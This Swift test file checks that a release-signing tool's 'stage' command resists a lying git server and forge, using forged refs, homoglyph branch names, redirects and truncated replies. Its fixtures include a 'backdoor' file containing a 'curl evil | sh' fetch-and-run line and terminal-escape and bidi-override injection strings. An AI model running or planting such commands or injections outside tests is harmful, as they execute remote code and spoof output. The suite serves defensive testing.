import Support
import Testing

/// One lie that `stage` meets: of the server of the signatures repository, or of the forge that is asked for a pull
/// request.
struct StageLie: Sendable, CustomTestStringConvertible {
  let says: String
  var rules: [String] = []
  /// Refs of the repository that stands in for the server's where git reads; nil for no such.
  var shown: [String: String]?
  var symbolic: [String: String] = [:]
  let status: Int32
  /// Part of what is printed; lines are folded at blanks.
  let text: String
  /// Whether the person signs the commit.
  var signs = true

  var testDescription: String { says }

  private static let branch = "refs/heads/release/\(StageLieWorld.release)"
  private static let listing = #""path": "/stagex/stagex.git/git-upload-pack$", "body": "command=ls-refs""#
  private static let opening = #""method": "POST", "path": "/pulls$""#
  private static let otherKind = "is no repository of image signatures"
  static let done = "pull request 1 into main"
  /// The first list, which is the fetch's, is a lie; the look after the push is shown the truth.
  private static let once = #"{\#(listing), "skip": 1, "do": {}}"#

  static let all = [
    StageLie(
      says: "the base is the source repository's", shown: ["refs/heads/main": "$SOURCE"], status: 1, text: otherKind,
      signs: false),
    StageLie(
      says: "the release's branch is the source repository's", shown: [branch: "$SOURCE"], status: 1, text: otherKind,
      signs: false),
    StageLie(
      says: "the base is another branch's name", shown: ["refs/heads/x": "$SOURCE"],
      symbolic: ["refs/heads/main": "refs/heads/x"], status: 1, text: otherKind, signs: false),
    StageLie(
      says: "the base is a policy of another kind", shown: ["refs/heads/main": "$POLICY"], status: 1, text: otherKind,
      signs: false),
    StageLie(
      says: "the release's branch holds what nobody signed", shown: [branch: "$EVIL"], status: 1, text: "did not take"),
    // Without a trust root nobody judges the base: the signature reaches no further than to it.
    StageLie(
      says: "the base holds what nobody signed", rules: [once], shown: ["refs/heads/main": "$EVIL"], status: 0,
      text: done),
    StageLie(
      says: "the base is on another line", rules: [once], shown: ["refs/heads/main": "$ASIDE"], status: 0, text: done),
    StageLie(
      says: "the base holds what nobody signed, and what was pushed is not shown", shown: ["refs/heads/main": "$EVIL"],
      status: 1, text: "and shows the branch at nothing"),
    StageLie(
      says: "the release's branch has another's number one", shown: [branch: "$TAKEN"], status: 1,
      text: "did not take"),
    // No repository of git's own would hold such a branch.
    StageLie(
      says: "the base is no commit",
      rules: [
        #"{\#(listing), "do": {"serve": "eve/stagex", "rewrite": {"$BASE refs/heads/main": "$TAG refs/heads/main"}}}"#
      ], shown: [:], status: 2, text: "main of origin is no commit; nothing was signed", signs: false),
    StageLie(
      says: "names that look like the base's", rules: [once],
      shown: ["refs/heads/Main": "$SOURCE", "refs/heads/m\u{430}in": "$SOURCE", "refs/tags/main": "$SOURCE"], status: 0,
      text: done),
    StageLie(
      says: "the base is a commit that it does not give",
      rules: [#"{\#(listing), "do": {"rewrite": {"$BASE": "$NONE"}}}"#], status: 75, text: "cannot be reached"),
    StageLie(
      says: "it dies while it lists", rules: [#"{\#(listing), "do": {"truncate": 40}}"#], status: 75,
      text: "cannot be reached"),
    StageLie(
      says: "it is silent, and then dies", rules: [#"{\#(listing), "do": {"delay": 6, "truncate": 40}}"#], status: 75,
      text: "goes on for 5 s"),
    StageLie(
      says: "it fails in words that clear the screen",
      rules: [#"{"path": "/info/refs$", "do": {"reply": {"status": 500, "body": "\u001b[2J"}}}"#], status: 75,
      text: "cannot be reached"),
    StageLie(
      says: "it takes the branch, and forgets it",
      rules: [#"{"path": "/stagex/stagex.git/git-receive-pack$", "do": {"serve": "eve/stagex"}}"#], status: 1,
      text: "it said that it took"),
    StageLie(
      says: "it refuses the branch",
      rules: [
        #"{"path": "/stagex/stagex.git/git-receive-pack$", "do": {"reply": {"status": 403, "body": "\u001b[2J"}}}"#
      ], status: 75, text: "cannot be reached"),
    StageLie(
      says: "the new request is another repository's",
      rules: [#"{\#(opening), "do": {"patch": {"base.repo.full_name": "eve/stagex"}}}"#], status: 0,
      text: "the forge answers about eve/stagex#1"),
    StageLie(
      says: "it sends the new request on to another host",
      rules: [#"{\#(opening), "do": {"reply": {"status": 307, "headers": {"Location": "http://127.0.0.2:1/"}}}}"#],
      status: 0, text: "sends us on to"),
    StageLie(
      says: "it refuses the request in words that clear the screen",
      rules: [#"{\#(opening), "do": {"reply": {"status": 422, "body": "{\"message\": \"\\u001b[2Jno\"}"}}}"#],
      status: 0, text: #"\x1b[2Jno"#),
    StageLie(
      says: "the new request's title clears the screen",
      rules: [#"{\#(opening), "do": {"patch": {"title": "\u001b[2Jx\u202e"}}}"#],
      status: 0, text: #"\x1b[2Jx\u{202e}"#),
    StageLie(
      says: "it says nothing of the new request", rules: [#"{\#(opening), "do": {"delay": 30}}"#], status: 75,
      text: "did not answer in time"),
    StageLie(
      says: "the answer about the new request is a page",
      rules: [#"{\#(opening), "do": {"reply": {"body": "<html>"}}}"#], status: 0, text: "makes no sense"),
    // For ever it would be a question of the machine's speed which of our bounds is met first.
    StageLie(
      says: "the list of requests never ends, in pages of any size",
      rules: [#"{"path": "/pulls$", "method": "GET", "times": 3, "do": {"endless": true}}"#], status: 0, text: done),
  ]
}

/// A forge that holds a signatures repository, and a work tree with images that a maintainer has signed and not staged.
final class StageLieWorld {
  static let release = "2026.03.0"
  let forge: TestForge
  let team: ImageMaintainers
  private let folder: TemporaryFolder
  private var places: [String: String] = [:]
  private var count = 0
  private var honest = Duration.zero

  init() throws {
    forge = try TestForge()
    team = try ImageMaintainers(["alice"], packages: 1)
    folder = try TemporaryFolder()
    let path = team.people[0].path
    try Tool.succeed("git", ["clone", "--quiet", forge.remote(), path + "/signatures"])
    let helper = "!f() { echo username=alice; echo password=pw-alice; }; f"
    for (key, value) in [
      ("credential.\(forge.url).helper", helper), ("user.name", "alice"), ("user.email", "alice@example.org"),
    ] {
      try ImageTree.git(path + "/signatures", "config", key, value)
    }
    try ImageTree.git(path, "config", "maint.signatures", forge.remote())
    try ImageTree.git(path, "config", "maint.forge", "forgejo")
    try writePlaces(path)
    let signed = try run(["sign", "--release", Self.release, "--yes", "--no-make"], in: path)
    guard signed.status == 0 else { throw StepFailed(signed.text + signed.errorText) }
    try Tool.succeed("cp", ["-a", rootFolder, "\(folder.path)/honest"])
    let start = ContinuousClock.now
    try meet(StageLie(says: "none", status: 0, text: StageLie.done))
    honest = ContinuousClock.now - start
  }

  private var rootFolder: String { String(forge.path().dropLast("/\(TestForge.repository).git".count)) }

  private func writePlaces(_ path: String) throws {
    let standIn = ForgeLieWorld.standIn
    try forge.forge("repository", standIn, "--writer", "alice", "--fork-of", TestForge.repository)
    places = [
      "BASE": forge.rootCommit, "NONE": String(repeating: "1", count: 40),
      "SOURCE": try ImageTree.git(path, "rev-parse", "HEAD"),
    ]
    let work = try forge.clone()
    func on(_ base: String?, _ files: [String: String]) throws -> String {
      if let base {
        try work.git("checkout", "-q", "--detach", base)
      } else {
        try work.git("checkout", "-q", "--orphan", "aside")
      }
      for name in files.keys where name.contains("/") {
        try Tool.succeed(
          "mkdir", ["-p", "\(work.path)/" + name.split(separator: "/").dropLast().joined(separator: "/")])
      }
      return try work.commit("x", files: files)
    }
    let digest = try Tool.succeed("sh", ["-c", "cut -d' ' -f1 digests/*.txt | head -1"], folder: path).line
    let package = try Tool.succeed("sh", ["-c", "awk '{print $2; exit}' digests/*.txt"], folder: path).line
    places["EVIL"] = try on(forge.rootCommit, ["backdoor": "curl evil | sh\n"])
    places["POLICY"] = try on(forge.rootCommit, ["review.toml": "version = 2\nthreshold = 1\n"])
    places["TAKEN"] = try on(forge.rootCommit, ["stagex/\(package)@sha256=\(digest)/signature-1": "no signature\n"])
    places["ASIDE"] = try on(nil, ["README": "another\n"])
    try work.git("tag", "-a", "-m", "x", "x", forge.rootCommit)
    places["TAG"] = try work.git("rev-parse", "x")
    for (source, ids) in [
      (work.path, places.filter { !["NONE", "SOURCE"].contains($0.key) }.map(\.value)), (path, [places["SOURCE"]!]),
    ] {
      try Tool.succeed("git", ["-C", source, "config", "uploadpack.allowAnySHA1InWant", "true"])
      try Tool.succeed("git", ["-C", forge.path(standIn), "fetch", "-q", source] + ids)
    }
  }

  private func run(_ words: [String], in path: String) throws -> Tool.Result {
    try Tool.run(
      ServerProgram.command, words,
      environment: team.environment(0).merging(["MAINT_TOKEN_127_0_0_1": forge.token(of: "alice")]) { $1 },
      folder: path, seconds: 120)
  }

  private func filled(_ text: String) -> String {
    places.sorted { $0.key.count > $1.key.count }.reduce(text) { $0.replacing("$" + $1.key, with: $1.value) }
  }

  func meet(_ lie: StageLie) throws {
    let names = ["stagex", "eve", "state.json"]
    try Tool.succeed("rm", ["-rf"] + names.map { "\(rootFolder)/\($0)" })
    try Tool.succeed("cp", ["-a"] + names.map { "\(folder.path)/honest/\($0)" } + [rootFolder])
    let standIn = forge.path(ForgeLieWorld.standIn)
    for (ref, place) in lie.shown ?? [:] { try Tool.succeed("git", ["-C", standIn, "update-ref", ref, filled(place)]) }
    for (ref, target) in lie.symbolic { try Tool.succeed("git", ["-C", standIn, "symbolic-ref", ref, target]) }
    var rules = lie.rules
    if lie.shown != nil {
      rules.append(#"{"path": "/stagex/stagex.git/git-upload-pack$", "do": {"serve": "\#(ForgeLieWorld.standIn)"}}"#)
    }
    try forge.forge("hostile", "-", input: rules.map(filled).joined(separator: "\n"))
    count += 1
    let path = "\(folder.path)/tree-\(count)"
    try Tool.succeed("cp", ["-a", team.people[0].path, path])
    let card = team.people[0].card
    let touches = try card.signatureCount()
    let start = ContinuousClock.now
    let result = try run(["stage"], in: path)
    let time = ContinuousClock.now - start
    let said = result.text + result.errorText
    #expect(honest == .zero || time - honest < .seconds(10), "\(lie.says): took \(time)")
    let flat = said.split(whereSeparator: \.isWhitespace).joined(separator: " ")
    #expect(
      !lie.text.isEmpty && result.status == lie.status && flat.contains(lie.text),
      "\(lie.says): \(result.status) \(said)")
    let unsafe = said.unicodeScalars.filter {
      $0 != "\n" && $0 != "\t"
        && ($0.properties.generalCategory == .control || $0.properties.generalCategory == .format)
    }
    #expect(unsafe.isEmpty, "\(lie.says): prints \(unsafe)")
    let signatures = try card.signatureCount() - touches
    #expect(signatures == (lie.signs ? 1 : 0), "\(lie.says): \(signatures) signatures. \(said)")
    if signatures > 0 { try demandNarrow(path + "/signatures", lie) }
    try Tool.succeed("rm", ["-rf", path])
  }

  /// What was signed stands on one commit and adds nothing but signatures.
  private func demandNarrow(_ clone: String, _ lie: StageLie) throws {
    let tip = "refs/heads/release/\(Self.release)"
    let ids = try ImageTree.git(clone, "rev-list", "--parents", "-1", tip).split(separator: " ")
    #expect(ids.count == 2, "\(lie.says): \(ids.count - 1) parents")
    let trailers = try ImageTree.git(clone, "log", "-1", "--format=%(trailers:key=Reviewed-Base)", tip)
    #expect(trailers == "Reviewed-Base: \(ids[1])", "\(lie.says): \(trailers)")
    let files = try Tool.succeed("git", ["-C", clone, "diff-tree", "-r", "--name-status", "--no-commit-id", tip]).text
      .split(separator: "\n")
    #expect(
      !files.isEmpty && files.allSatisfy { $0.hasPrefix("A\tstagex/") && $0.contains("/signature-") },
      "\(lie.says): \(files)")
  }
}

/// `stage` against a server and a forge that lie; the honest ones are the twin, before and after.
@Suite(
  .enabled(
    if: ForgeLie.areAsked && VirtualCard.isPossible && TestForge.isPossible, "takes minutes: set STAGEX_MAINT_LIES=1"))
struct StageLiesTests {
  @Test func `Of the lies that stage meets each is told, or fools nobody`() throws {
    let world = try StageLieWorld()
    for lie in StageLie.all { try world.meet(lie) }
    try world.meet(StageLie(says: "none", status: 0, text: StageLie.done))
  }
}
